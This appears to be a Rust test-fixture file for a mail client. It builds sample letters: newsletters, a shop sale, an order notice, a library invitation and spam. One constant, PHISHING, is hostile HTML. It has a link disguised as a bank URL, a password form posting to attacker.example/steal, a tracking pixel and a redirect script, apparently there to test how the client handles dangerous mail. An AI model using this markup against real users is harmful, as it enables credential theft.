//! Mail from senders who write to many: designed HTML, with pictures that are elsewhere.

use super::{
    people::{ALICE, CHANDLERY, LANTERN, Person},
    write::{DAY, Entity, HOUR, Letter},
};

pub(super) fn letters() -> Vec<Letter> {
    vec![
        weekly("lantern-48", 20 * HOUR, "", "What the light keepers read"),
        weekly(
            "lantern-47",
            7 * DAY + 20 * HOUR,
            "\\Seen",
            "Fog, and what to do in it",
        ),
        bulk("sale-1", "INBOX", 2 * DAY + 9 * HOUR, CHANDLERY)
            .subject("Winter sale: everything that floats, 20 % off")
            .body(Entity::alternative(
                Entity::text(SALE),
                Entity::html(include_str!("../../data/newsletters/sale.html")),
            )),
        Letter::new("order-1", "INBOX", 6 * DAY + 8 * HOUR)
            .flags("\\Seen")
            .from(CHANDLERY)
            .to(&[ALICE])
            .subject("Your order 30117 is on its way")
            .body(Entity::html(include_str!(
                "../../data/newsletters/order.html"
            ))),
        // Written in a web page: HTML without a colour of its own.
        Letter::new("webmail-1", "INBOX", 8 * DAY + 5 * HOUR)
            .flags("\\Seen")
            .from(Person {
                name: "Priya Lindqvist",
                email: "priya@library.example",
                zone: 60,
            })
            .to(&[ALICE])
            .subject("Reading on Thursday")
            .body(Entity::alternative(
                Entity::flowed(READING),
                Entity::html(include_str!("../../data/newsletters/reading.html")),
            )),
        bulk("junk-1", "Junk", 2 * DAY, WINNER)
            .subject("You have won a yacht!!!")
            .header("X-Spam-Flag", "YES")
            .body(Entity::html(include_str!(
                "../../data/newsletters/yacht.html"
            ))),
        bulk("junk-2", "Junk", 9 * DAY, BANK)
            .flags("$Junk")
            .subject("Your account will be closed")
            .header("X-Spam-Flag", "YES")
            .body(Entity::html(PHISHING)),
        bulk("junk-3", "Junk", 23 * DAY, WINNER)
            .flags("\\Seen $Junk")
            .subject("Re: Re: your invoice")
            .header("X-Spam-Flag", "YES")
            .body(Entity::text(
                "Dear friend, open the attachment. There is none. Open it.\n",
            )),
    ]
}

fn weekly(id: &'static str, minutes: i64, flags: &str, subject: &str) -> Letter {
    let html = include_str!("../../data/newsletters/lantern.html");
    bulk(id, "INBOX", minutes, LANTERN)
        .flags(flags)
        .subject(subject)
        .body(Entity::alternative(
            Entity::text(&LANTERN_TEXT.replace("{subject}", subject)),
            Entity::html(&html.replace("{subject}", subject).replace("{issue}", id)),
        ))
}

/// A letter to many, which can be unsubscribed (RFC 2369, RFC 8058).
fn bulk(id: &'static str, mailbox: &'static str, minutes: i64, person: Person) -> Letter {
    Letter::new(id, mailbox, minutes)
        .from(person)
        .to(&[ALICE])
        .header(
            "List-Unsubscribe",
            format!("<https://post.example/leave/{id}>"),
        )
        .header("List-Unsubscribe-Post", "List-Unsubscribe=One-Click")
        .header("Precedence", "bulk")
}

const WINNER: Person = Person {
    name: "YACHT LOTTERY",
    email: "win@prizes.example",
    zone: -300,
};
const BANK: Person = Person {
    name: "Harbour Bank",
    email: "security@harb0ur-bank.example",
    zone: 0,
};

const LANTERN_TEXT: &str = "THE LANTERN, WEEKLY
{subject}

* Five stories for a long watch
  https://lantern.example/stories
* One map: every light between here and the cape
  https://lantern.example/map
* A letter: why the lamp is red
  https://lantern.example/letters

You get this because you live here.
";

const SALE: &str = "PIER THREE CHANDLERY

Everything that floats is 20 % off until Saturday.

  Fenders        from 19
  Life jackets   from 64
  Buoys          from 8

https://chandlery.example/sale
";

const READING: &str = "Hi Alice,

on Thursday at eight we read from old logbooks in the library, with tea and a heater. Would you bring yours?

Priya";

/// It goes where it does not say.
const PHISHING: &str = r##"<p><b>Dear customer!</b></p>
<p>Your account will be closed. <a href="http://attacker.example/login">https://harbour-bank.example/login</a></p>
<form action="http://attacker.example/steal"><input name="password" type="password" placeholder="Password"><button>Confirm</button></form>
<img src="http://attacker.example/seen.gif?alice" width="1" height="1">
<script>document.location = "http://attacker.example/"</script>
"##;
